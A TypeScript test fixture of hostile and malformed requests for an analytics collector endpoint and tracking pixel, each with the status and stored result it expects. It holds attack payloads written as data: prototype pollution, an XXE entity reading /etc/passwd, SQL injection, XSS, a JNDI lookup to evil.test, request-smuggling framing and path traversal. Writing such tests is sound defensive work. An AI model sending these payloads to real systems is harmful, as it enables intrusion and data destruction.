// Inputs of the kinds that the corpus of bad inputs has, and of some that it has
// not. What a browser can send by accident is repaired and stored; what it cannot
// is refused, and never with a 5xx.

import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { expect } from 'vitest'

const ID = '01912d68-783e-7a03-8467-5661c1243ad4'

/** What is stored of an input. */
export interface StoredRow {
  readonly event_type: string
  readonly visitor_id: string
  readonly host: string | null
  readonly path: string | null
  readonly occurred_at: Date
  readonly received_at: Date
  readonly event: Readonly<Record<string, unknown>>
}

export interface HostileInput {
  readonly method?: string
  readonly path?: string
  readonly headers?: Record<string, string | string[]>
  /** `SITE` in it is the case's own site. */
  readonly body?: string | Buffer
  /** The bytes of the whole request, in place of all the others. */
  readonly raw?: string
  readonly status: number | readonly number[]
  /** Rows of the case's site; absent: none. */
  readonly stored?: number
  readonly row?: (row: StoredRow, answer: { body: string }) => void
}

/** A body with one event, whose members are JSON as it stands. */
const one = (members: string, envelope = '') =>
  `{"siteId":"SITE",${envelope}"events":[{"eventType":"pageview","url":"https://a.example/",${members}}]}`
const stored = (members: string, row?: HostileInput['row']): HostileInput => ({
  ...{ body: one(members), status: 202, stored: 1 },
  ...(row && { row }),
})
const refused = (members: string, status = 400): HostileInput => ({ body: one(members), status })
const data = (row: StoredRow) => row.event.eventData as Record<string, unknown>
const nested = (levels: number, open = '[', close = ']') =>
  open.repeat(levels) + close.repeat(levels)
const request = (head: string, body = '{}') =>
  `POST /collect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n${head}\r\n\r\n${body}`

/** By kind and name. */
export const HOSTILE_INPUTS: Record<string, Record<string, HostileInput>> = {
  json: {
    'trailing garbage': { body: `${one('"title":"x"')}x`, status: 400 },
    'two documents': { body: `${one('"title":"x"')}${one('"title":"x"')}`, status: 400 },
    'cut off': { body: one('"title":"x"').slice(0, -3), status: 400 },
    'single quotes': { body: one('"title":"x"').replaceAll('"', "'"), status: 400 },
    comments: { body: `/* a */${one('"title":"x"')}`, status: 400 },
    'a trailing comma': refused('"title":"x",'),
    'spaces and lines around it': {
      ...{ body: ` \r\n\t${one('"title":"x"')}\n `, status: 202, stored: 1 },
    },
    'a string': { body: '"pageview"', status: 400 },
    true: { body: 'true', status: 400 },
    'an array of events': { body: '[{"eventType":"pageview"}]', status: 400 },
    'an object of nothing': { body: '{}', status: 400 },
    'events that are an object': { body: '{"siteId":"SITE","events":{"0":{}}}', status: 400 },
    'events that are null': { body: '{"siteId":"SITE","events":null}', status: 400 },
    'no events': { body: '{"siteId":"SITE","events":[]}', status: 400 },
    'events of arrays': { body: '{"siteId":"SITE","events":[[],[]]}', status: 400 },
    'events of null': { body: '{"siteId":"SITE","events":[null]}', status: 400 },
    'the last of two equal keys counts': stored('"title":"a","title":"b"', ({ event }) =>
      expect(event.title).toBe('b'),
    ),
    __proto__: refused('"eventData":{"__proto__":{"polluted":1}}'),
    '__proto__ at the top': {
      body: '{"__proto__":{"siteId":"SITE"},"eventType":"x"}',
      status: 400,
    },
    '__proto__ in escapes': refused('"eventData":{"\\u005f_proto__":{"polluted":1}}'),
    '__proto__ with spaces after it': refused('"eventData":{"__proto__" : {"polluted":1}}'),
    '__proto__ with something unseen in it': refused('"eventData":{"__pro\\u200bto__":{"a":1}}'),
    '__proto__ with spaces in its name': refused('"eventData":{" __proto__ ":{"a":1}}'),
    'constructor.prototype in escapes': refused(
      '"eventData":{"c\\u006fnstructor":{"prototype":{"polluted":1}}}',
    ),
    'constructor as a word': stored(
      '"eventData":{"constructor":"Ferrari","prototype":"f1"}',
      (row) => expect(data(row)).toEqual({ constructor: 'Ferrari', prototype: 'f1' }),
    ),
    'toJSON as data': stored('"eventData":{"toJSON":"a","valueOf":"b"}', (row) =>
      expect(data(row)).toEqual({ toJSON: 'a', valueOf: 'b' }),
    ),
    'an empty key': stored('"eventData":{"":1}', (row) => expect(data(row)).toEqual({ '': 1 })),
    'a key of 5 000 characters': stored(`"eventData":{"${'k'.repeat(5_000)}":1}`, (row) =>
      expect(Object.keys(data(row))[0]).toHaveLength(64),
    ),
    '51 properties': refused(
      `"eventData":{${Array.from({ length: 51 }, (_, at) => `"k${at}":1`)}}`,
    ),
    '50 properties': stored(`"eventData":{${Array.from({ length: 50 }, (_, at) => `"k${at}":1`)}}`),
    '6 levels': stored(`"eventData":{"a":${nested(2)}}`),
    '7 levels': refused(`"eventData":{"a":${nested(3)}}`),
    'depth in a string is none': stored(`"title":"${nested(300)}{{{\\"[[["`),
    'depth in a key': stored(`"eventData":{"${nested(20)}":1}`),
    'deep where nobody reads': {
      ...{ body: `{"siteId":"SITE","ignored":${nested(5_000)},"events":[]}`, status: 400 },
    },
    'members that nobody knows': stored('"toString":1,"isAdmin":true,"batchId":1', ({ event }) =>
      expect(event).not.toHaveProperty('isAdmin'),
    ),
    '101 events': {
      ...{ body: `{"siteId":"SITE","events":[${Array(101).fill('{"eventType":"x"}')}]}` },
      status: 413,
    },
  },
  types: {
    ...Object.fromEntries(
      [
        'eventType',
        'siteId',
        'url',
        'title',
        'referrer',
        'visitorId',
        'sessionId',
        'eventId',
      ].flatMap((name) =>
        ['1', 'true', '["x"]', '{"a":1}'].map((value) => [
          `${name} ${value}`,
          {
            body: `{"siteId":"SITE","events":[${JSON.stringify({ eventType: 'x', eventId: ID, url: 'https://a.example/', [name]: 0 }).replace(`"${name}":0`, `"${name}":${value}`)}]}`,
            status: 400,
          },
        ]),
      ),
    ),
    'eventData of an array': refused('"eventData":["a"]'),
    'eventData of a text': refused('"eventData":"{}"'),
    'context of an array': refused('"context":[]'),
    'an envelope with a context of a text': {
      ...{ body: one('"title":"x"', '"context":"a",'), status: 400 },
    },
    'consent of another word': refused('"consent":"yes"'),
    'consent of an object': refused('"consent":{"analytics":"granted"}'),
    'null where a browser had nothing': stored(
      '"title":null,"referrer":null,"visitorId":null,"sessionId":null,"eventData":null,"context":null,"timestamp":null',
    ),
  },
  numbers: {
    '1e400 is nothing': stored('"eventData":{"v":1e400}', (row) => expect(data(row).v).toBeNull()),
    '1e131071 is nothing': stored('"eventData":{"v":[1e131071,-1e308]}', (row) =>
      expect(data(row).v).toEqual([null, null]),
    ),
    '-0 is 0': stored('"eventData":{"v":-0}', (row) =>
      expect(Object.is(data(row).v, 0)).toBe(true),
    ),
    '1e-400 is 0': stored('"eventData":{"v":1e-400}', (row) => expect(data(row).v).toBe(0)),
    '5e-324 is 0': stored('"eventData":{"v":5e-324}', (row) => expect(data(row).v).toBe(0)),
    '1e300 is nothing': stored('"eventData":{"v":-1e300}', (row) => expect(data(row).v).toBeNull()),
    'more digits than a double has': stored(`"eventData":{"v":0.${'1'.repeat(5_000)}}`),
    'beyond what a double counts': stored('"eventData":{"v":9007199254740993}', (row) =>
      expect(data(row).v).toBe(9007199254740992),
    ),
    '0x10': refused('"eventData":{"v":0x10}'),
    '01': refused('"eventData":{"v":01}'),
    '+1': refused('"eventData":{"v":+1}'),
    '1.': refused('"eventData":{"v":1.}'),
    Infinity: refused('"eventData":{"v":Infinity}'),
  },
  unicode: {
    'NUL in a title': stored('"title":"a\\u0000b"', ({ event }) =>
      expect(event.title).toBe('a\ufffdb'),
    ),
    'NUL in a property and its key': stored('"eventData":{"a\\u0000":"\\u0000"}', (row) =>
      expect(data(row)).toEqual({ a: '\ufffd' }),
    ),
    'NUL in ids': stored('"visitorId":"a\\u0000","sessionId":"\\u0000"'),
    'NUL in a name': {
      ...stored('"eventType":"a\\u0000b"', (row) => expect(row.event_type).toBe('ab')),
    },
    'NUL in a url': stored('"url":"https://a.example/a\\u0000b"'),
    'NUL in a referrer': stored('"referrer":"https://b.example/\\u0000"'),
    'NUL as it is': refused('"title":"a\u0000b"'),
    'a lone low surrogate': stored('"title":"\\udc00x"', ({ event }) =>
      expect(event.title).toBe('\ufffdx'),
    ),
    'lone surrogates everywhere': stored(
      '"eventType":"a\\ud800","visitorId":"\\ud800","sessionId":"\\udfff","url":"https://a.example/\\ud83d?utm_source=\\ud83d","referrer":"https://b.example/\\ud83d","eventData":{"\\ud83d":"\\ud83d"},"context":{"screen":"\\ud83d"}',
    ),
    'a title cut through an emoji': stored(`"title":"${'x'.repeat(511)}😀"`, ({ event }) =>
      expect((event.title as string).isWellFormed()).toBe(true),
    ),
    'a name of 121': refused(`"eventType":"${'n'.repeat(121)}"`),
    'a name of spaces': refused('"eventType":" \\t\\u200b "'),
    noncharacters: stored('"title":"\\uffff\\ufffe"'),
    'bytes that are not UTF-8': {
      ...{ body: Buffer.from(one('"title":"\u00ff"'), 'latin1'), status: 400 },
    },
    'an overlong slash': {
      body: Buffer.concat([
        Buffer.from('{"siteId":"SITE","eventType":"'),
        Buffer.from('c0af', 'hex'),
        Buffer.from('"}'),
      ]),
      status: 400,
    },
    'surrogates in UTF-8': {
      body: Buffer.concat([
        Buffer.from('{"siteId":"SITE","eventType":"'),
        Buffer.from('eda080', 'hex'),
        Buffer.from('"}'),
      ]),
      status: 400,
    },
    'a cut sequence at the end': {
      ...{ body: Buffer.concat([Buffer.from('{"a":"'), Buffer.from('f09f', 'hex')]), status: 400 },
    },
    'UTF-16 without a word': { body: Buffer.from(one('"title":"x"'), 'utf16le'), status: 400 },
    'charset=latin1': {
      ...{ headers: { 'content-type': 'text/plain; charset=iso-8859-1' }, status: 415 },
      body: one('"title":"x"'),
    },
    'charset="UTF-8"': {
      ...{ headers: { 'content-type': 'text/plain; charset="UTF-8"' }, status: 202, stored: 1 },
      body: one('"title":"x"'),
    },
    'bidi and lines in a title stay text': stored('"title":"a\\u202eb\\nc"'),
  },
  time: {
    'a future of an hour is now': stored(
      `"timestamp":"${new Date(Date.now() + 3_600_000).toISOString()}"`,
      (row) => {
        expect(row.occurred_at).toEqual(row.received_at)
        expect(row.event.flags).toEqual(['clock_ahead'])
      },
    ),
    'seconds for milliseconds': stored('"timestamp":1767225600', (row) =>
      expect(row.event.flags).toEqual(['clock_invalid']),
    ),
    'a year of six digits': stored('"timestamp":"+275760-09-13T00:00:00.000Z"', (row) =>
      expect(row.event.flags).toEqual(['clock_invalid']),
    ),
    '1e400': stored('"timestamp":1e400', (row) =>
      expect(row.event.flags).toEqual(['clock_invalid']),
    ),
    'a fraction': stored(`"timestamp":${Date.now() - 1_000}.5`),
    ...Object.fromEntries(
      [
        'now',
        'epoch',
        'today',
        '0',
        '1',
        '-1',
        new Date().toUTCString(),
        'Jan 1 2026',
        '2026-13-01T00:00:00Z',
        '2026-01-01 (x)',
        '2026-02-30T00:00:00Z',
        '',
        ' ',
        '1767225600000',
      ].map((text) => [
        `the text ${JSON.stringify(text)}`,
        refused(`"timestamp":${JSON.stringify(text)}`),
      ]),
    ),
    'a text of an hour ago': stored(
      `"timestamp":"${new Date(Date.now() - 3_600_000).toISOString()}"`,
      (row) => expect(row.event.flags).toBeUndefined(),
    ),
    'a zone, none, and a space': {
      body: JSON.stringify({
        siteId: 'SITE',
        events: ((iso) => [iso, iso.slice(0, 19), iso.slice(0, 19).replace('T', ' ')])(
          new Date(Date.now() - 60_000).toISOString(),
        ).map((timestamp) => ({ eventType: 'x', timestamp })),
      }),
      ...{ status: 202, stored: 3 },
      row: (row) =>
        expect(row.received_at.getTime() - row.occurred_at.getTime()).toBeLessThan(600_000),
    },
    'an offset': stored(
      `"timestamp":"${new Date(Date.now() - 3_600_000).toISOString().replace('Z', '+00:00')}"`,
    ),
    true: refused('"timestamp":true'),
    'an object': refused('"timestamp":{"$date":0}'),
    'an array': refused('"timestamp":[1]'),
    'sentAt of null': { body: one('"title":"x"', '"sentAt":null,'), status: 202, stored: 1 },
    'sentAt of a word': { body: one('"title":"x"', '"sentAt":"now",'), status: 400 },
    'sentAt of an object': { body: one('"title":"x"', '"sentAt":{},'), status: 400 },
    'a clock that is a day ahead, and says so': {
      body: one(`"timestamp":${Date.now() + 86_400_000}`, `"sentAt":${Date.now() + 86_400_000},`),
      ...{ status: 202, stored: 1, row: (row) => expect(row.event.flags).toBeUndefined() },
    },
  },
  size: {
    'a body of 65 536 bytes': {
      ...{ body: one(`"title":"x"`, `"pad":"${'x'.repeat(65_536)}",`), status: 413 },
    },
    'a title of 600 emoji': stored(`"title":"${'😀'.repeat(600)}"`, ({ event }) =>
      expect((event.title as string).length).toBeLessThanOrEqual(512),
    ),
    'a url of 60 000': stored(`"url":"https://a.example/${'a/'.repeat(30_000)}"`, (row) =>
      expect(row.path?.length).toBeLessThanOrEqual(2_048),
    ),
    'a url of 20 000 percent signs': stored(
      `"url":"https://a.example/${'%e2%82%ac'.repeat(2_000)}"`,
    ),
    'a referrer of 60 000': stored(`"referrer":"https://b.example/${'a'.repeat(60_000)}"`),
    'a property of 60 000': stored(`"eventData":{"v":"${'v'.repeat(60_000)}"}`, (row) =>
      expect(`${data(row).v}`.length).toBeLessThanOrEqual(1_024),
    ),
    'an id of 65': refused(`"visitorId":"${'v'.repeat(65)}"`),
    'a site of 65': { body: `{"siteId":"${'s'.repeat(65)}","eventType":"x"}`, status: 400 },
    'a list of 30 000 numbers': stored(`"eventData":{"v":[${Array(30_000).fill(1)}]}`),
    'a length that is none': { raw: request('Content-Length: ten'), status: 400 },
    'a length below 0': { raw: request('Content-Length: -1'), status: 400 },
    'a length beyond 2^64': { raw: request('Content-Length: 99999999999999999999'), status: 400 },
    'a length of 1 GB': { raw: request('Content-Length: 1073741824'), status: 413 },
  },
  compression: {
    deflate: {
      ...{ headers: { 'content-encoding': 'deflate' }, status: 415 },
      body: deflateSync('{"siteId":"SITE"}'),
    },
    br: {
      ...{ headers: { 'content-encoding': 'br' }, status: 415 },
      body: brotliCompressSync('{"siteId":"SITE"}'),
    },
    'gzip in gzip': {
      ...{ headers: { 'content-encoding': 'gzip, gzip' }, status: 415 },
      body: gzipSync(gzipSync('{}')),
    },
    'GZIP is gzip': {
      ...{ headers: { 'content-encoding': 'GZIP' }, status: 403 },
      body: gzipSync('{"siteId":"nobody","eventType":"x"}'),
    },
    'gzip that is none': {
      ...{ headers: { 'content-encoding': 'gzip' }, body: '{}', status: 400 },
    },
    'gzip that is cut': {
      ...{ headers: { 'content-encoding': 'gzip' }, status: 400 },
      body: gzipSync('{"siteId":"SITE","eventType":"x"}').subarray(0, -9),
    },
    'gzip of nothing': {
      ...{ headers: { 'content-encoding': 'gzip' }, body: gzipSync(''), status: 400 },
    },
    'nothing as gzip': { headers: { 'content-encoding': 'gzip' }, body: '', status: 400 },
    'many members of gzip': {
      ...{ headers: { 'content-encoding': 'gzip' }, status: 413 },
      body: Buffer.concat(Array(200).fill(gzipSync(Buffer.alloc(200_000)))),
    },
  },
  http: {
    ...Object.fromEntries(
      ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE'].map((method) => [
        method,
        { method, status: 405 } as const,
      ]),
    ),
    TRACE: { method: 'TRACE', status: [404, 405] },
    CONNECT: { raw: 'CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n', status: [0, 400, 404, 405] },
    'a made-up method': { raw: 'HACK /collect HTTP/1.1\r\nHost: a\r\n\r\n', status: 400 },
    'no content type': {
      raw: 'POST /collect HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n{}',
      status: 415,
    },
    'a form': {
      ...{ headers: { 'content-type': 'application/x-www-form-urlencoded' }, status: 415 },
      body: 'siteId=SITE&eventType=x',
    },
    multipart: {
      ...{ headers: { 'content-type': 'multipart/form-data; boundary=x' }, status: 415 },
      body: '--x--',
    },
    xml: {
      ...{ headers: { 'content-type': 'text/xml' }, status: 415 },
      body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    },
    'APPLICATION/JSON': {
      ...{ headers: { 'content-type': 'APPLICATION/JSON' }, status: 202, stored: 1 },
      body: one('"title":"x"'),
    },
    'application/jsonx': {
      ...{ headers: { 'content-type': 'application/jsonx' }, status: 415 },
      body: one('"title":"x"'),
    },
    'a tab before the parameters': {
      ...{ headers: { 'content-type': 'application/json\t;x=1' }, status: [202, 400, 415] },
      body: '{"zz":1}',
    },
    'a content type of commas': {
      ...{ headers: { 'content-type': 'application/json, text/html' }, status: [400, 415] },
      body: one('"title":"x"'),
    },
    'an address with dots': {
      raw: request('Content-Length: 2').replace('/collect', '/collect/../collect'),
      status: 404,
    },
    'an address twice slashed': { path: '//collect', body: one('"title":"x"'), status: 404 },
    'another case': { path: '/COLLECT', body: one('"title":"x"'), status: 404 },
    'an address that is not UTF-8': { path: '/collect/%ff%fe', status: [400, 404] },
    'an address with NUL': { path: '/collect%00', status: 400 },
    'a percent sign': { path: '/%', status: [400, 404] },
    'a query beside it': {
      path: `/collect?${'a=1&'.repeat(900)}`,
      body: one('"title":"x"'),
      status: 202,
      stored: 1,
    },
    'an origin that is none': {
      ...{ headers: { origin: 'a\t"b' }, status: 202, stored: 1 },
      body: one('"title":"x"'),
    },
    'headers of 20 KB': { headers: { 'x-a': 'a'.repeat(20_000) }, status: 431, body: '{}' },
    '3 000 headers': {
      raw: request(
        `${Array.from({ length: 3_000 }, (_, at) => `x-${at}: 1`).join('\r\n')}\r\nContent-Length: 2`,
      ),
      status: [400, 431],
    },
    'a header that others read': {
      headers: {
        ...{ 'content-type': 'text/plain', 'x-http-method-override': 'DELETE' },
        ...{ 'x-original-url': '/api/v1/sites', 'x-forwarded-host': 'evil.example' },
      },
      ...{ body: one('"title":"x"'), status: 202, stored: 1 },
    },
    'Expect: 100-continue': {
      ...{
        headers: { 'content-type': 'text/plain', expect: '100-continue' },
        status: 202,
        stored: 1,
      },
      body: one('"title":"x"'),
    },
    'an expectation of something else': {
      ...{ headers: { 'content-type': 'text/plain', expect: 'x' }, status: 417 },
      body: one('"title":"x"'),
    },
  },
  framing: {
    'a length and chunks': {
      raw: request(
        'Content-Length: 4\r\nTransfer-Encoding: chunked',
        '0\r\n\r\nGET /health HTTP/1.1\r\nHost: a\r\n\r\n',
      ),
      status: 400,
    },
    'chunks by another name': { raw: request('Transfer-Encoding: xchunked'), status: 400 },
    'chunks, then something else': {
      raw: request('Transfer-Encoding: chunked, identity'),
      status: 400,
    },
    'chunks named twice': {
      ...{ raw: request('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'), status: 400 },
    },
    'a space before the colon': { raw: request('Content-Length : 2'), status: 400 },
    'a size of a chunk that is none': {
      raw: request('Transfer-Encoding: chunked', 'zz\r\n{}\r\n0\r\n\r\n'),
      status: 400,
    },
    'a size of a chunk beyond 2^64': {
      raw: request('Transfer-Encoding: chunked', 'fffffffffffffffff\r\n{}\r\n0\r\n\r\n'),
      status: [400, 413],
    },
    'extensions of chunks without an end': {
      raw: request('Transfer-Encoding: chunked', `2;${'a'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n`),
      status: [400, 413],
    },
    'bare line feeds': {
      raw: 'POST /collect HTTP/1.1\nHost: a\nContent-Length: 2\n\n{}',
      status: 400,
    },
    'no host': { raw: 'POST /collect HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}', status: 400 },
    'two hosts': { raw: request('Host: b\r\nContent-Length: 2'), status: 400 },
    'a NUL in a header': { raw: request('X-A: a\u0000b\r\nContent-Length: 2'), status: 400 },
    'HTTP/9.9': { raw: 'POST /collect HTTP/9.9\r\nHost: a\r\n\r\n', status: 400 },
    TLS: { raw: '\u0016\u0003\u0001\u0002\u0000\u0001\u0000', status: [0, 400] },
  },
  addresses: {
    ...Object.fromEntries(
      [
        '<script>',
        '203.0.113.7, ::1',
        "1.2.3.4' or 1=1",
        '1.2.3.4:80',
        '[2001:db8::1]:443',
        'unknown',
        ',',
        '😀',
        '999.1.1.1',
        '::ffff:203.0.113.7',
        'fe80::1%eth0',
      ].map((text) => [
        `forwarded for ${text}`,
        {
          headers: { 'content-type': 'text/plain', 'x-forwarded-for': encodeURI(text) },
          ...{ body: one('"title":"x"'), status: 202, stored: 1 },
          row: (row: StoredRow) => expect(row.visitor_id).toMatch(/^[\da-f]{16}$/),
        },
      ]),
    ),
    'forwarded for 5 000 addresses': {
      headers: {
        'content-type': 'text/plain',
        'x-forwarded-for': Array(1_000).fill('1.2.3.4').join(),
      },
      ...{ body: one('"title":"x"'), status: 202, stored: 1 },
    },
  },
  ids: {
    'of another form': refused('"eventId":"1"'),
    'in upper case': stored(`"eventId":"${ID.toUpperCase()}"`),
    'in braces': refused(`"eventId":"{${ID}}"`),
    'with SQL behind it': refused(`"eventId":"${ID}'--"`),
    'of all zeros': stored('"eventId":"00000000-0000-0000-0000-000000000000"'),
    'of the end of time': stored('"eventId":"ffffffff-ffff-7fff-bfff-ffffffffffff"'),
    'twice in a request': {
      body: `{"siteId":"SITE","events":[{"eventType":"a","eventId":"${ID}"},{"eventType":"b","eventId":"${ID.toUpperCase()}"}]}`,
      ...{ status: 202, stored: 1, row: (row) => expect(row.event_type).toBe('a') },
    },
  },
  sites: {
    unknown: { body: '{"siteId":"nobody","eventType":"x"}', status: 403 },
    'of an address': { body: '{"siteId":"../../SITE","eventType":"x"}', status: 400 },
    'with SQL behind it': { body: `{"siteId":"SITE' or '1'='1","eventType":"x"}`, status: 400 },
    'with NUL': { body: '{"siteId":"SITE\\u0000","eventType":"x"}', status: 400 },
    'with a line': { body: '{"siteId":"SITE\\n","eventType":"x"}', status: 400 },
    __proto__: { body: '{"siteId":"__proto__","eventType":"x"}', status: 400 },
    constructor: { body: '{"siteId":"constructor","eventType":"x"}', status: 403 },
    'absent, with a host that tells none': {
      body: '{"eventType":"x","url":"https://[::1]/"}',
      status: [400, 403],
    },
  },
  urls: {
    ...Object.fromEntries(
      [
        'data:text/html,<script>',
        'file:///etc/passwd',
        'blob:https://a.example/x',
        'ftp://a.example/',
        '//a.example/',
        '/a',
        'https://',
        'https://a b/',
        'https://a.example:99999/',
        'ht\ttps://',
        'x',
        'vbscript:x',
      ].map((text) => [text, refused(`"url":${JSON.stringify(text)}`)]),
    ),
    'with unseen spaces': stored('"url":" https://a.example/\\n"', (row) =>
      expect(row.path).toBe('/'),
    ),
    'with backslashes': stored('"url":"https:\\\\\\\\a.example\\\\b"', (row) =>
      expect(row.path).toBe('/b'),
    ),
    'with dots': stored('"url":"https://a.example/x/%2e%2e/y/../../../z"', (row) =>
      expect(row.path).toBe('/z'),
    ),
    'of a host in other letters': stored('"url":"https://ａ.example/"', (row) =>
      expect(row.host).toBe('a.example'),
    ),
    'with a NUL in percents': stored('"url":"https://a.example/%00"', (row) =>
      expect(row.path).not.toContain('\0'),
    ),
    'with half a percent': stored('"url":"https://a.example/100%"'),
    'with percents that are not UTF-8': stored('"url":"https://a.example/%ff"'),
    'with lines in percents': stored('"url":"https://a.example/a%0d%0aSet-Cookie:x"'),
    'a referrer of javascript': stored('"referrer":"javascript:alert(1)"', ({ event }) =>
      expect(event).not.toHaveProperty('referrer'),
    ),
    'a referrer that is none': stored('"referrer":"not an address"', ({ event }) =>
      expect(event).not.toHaveProperty('referrer'),
    ),
  },
  injection: {
    'markup is text': stored(
      '"title":"<img src=x onerror=alert(1)>","eventType":"<b>x</b>"',
      (row) =>
        expect([row.event_type, row.event.title]).toEqual([
          '<b>x</b>',
          '<img src=x onerror=alert(1)>',
        ]),
    ),
    'lookups are text': stored(
      '"title":"$\\u007bjndi:ldap://evil.test/a} {{7*7}} %s %n"',
      ({ event }) => expect(event.title).toContain('{jndi:'),
    ),
    'SQL is text': stored(`"eventType":"x'); drop table events_log; --"`, (row) =>
      expect(row.event_type).toBe("x'); drop table events_log; --"),
    ),
    'JSON in a text stays there': stored('"title":"\\",\\"isBot\\":true,\\""'),
  },
  'the pixel': {
    'a view': {
      path: '/pixel.gif?site=SITE&url=https://a.example/',
      method: 'GET',
      status: 200,
      stored: 1,
    },
    nothing: { path: '/pixel.gif', method: 'GET', status: 400 },
    'a parameter twice': {
      ...{
        path: '/pixel.gif?site=SITE&site=SITE&url=https://a.example/',
        method: 'GET',
        status: 400,
      },
    },
    'a parameter with brackets': {
      path: '/pixel.gif?site[$ne]=x&url=https://a.example/',
      method: 'GET',
      status: [400, 403],
    },
    'a parameter named __proto__': {
      ...{ path: '/pixel.gif?site=SITE&url=https://a.example/&__proto__=x', method: 'GET' },
      ...{ status: [200, 400], stored: 1 },
    },
    NUL: {
      path: '/pixel.gif?site=SITE&url=https://a.example/&title=%00',
      method: 'GET',
      status: 400,
    },
    'percents that are not UTF-8': {
      ...{ path: '/pixel.gif?site=SITE&url=https://a.example/&title=%ff%e2', method: 'GET' },
      ...{ status: [200, 400], stored: 1 },
    },
    'a title of 8 000': {
      ...{
        path: `/pixel.gif?site=SITE&url=https://a.example/&title=${'t'.repeat(8_000)}`,
        method: 'GET',
      },
      ...{ status: 200, stored: 1 },
    },
    'a name of 200': {
      ...{
        path: `/pixel.gif?site=SITE&url=https://a.example/&event=${'n'.repeat(200)}`,
        method: 'GET',
      },
      status: 400,
    },
    javascript: {
      path: '/pixel.gif?site=SITE&url=javascript:alert(1)',
      method: 'GET',
      status: 400,
    },
    '1 000 parameters': {
      ...{
        path: `/pixel.gif?site=SITE&url=https://a.example/${'&a=1'.repeat(1_000)}`,
        method: 'GET',
      },
      ...{ status: 200, stored: 1 },
    },
    POST: { path: '/pixel.gif', method: 'POST', status: 405 },
  },
}
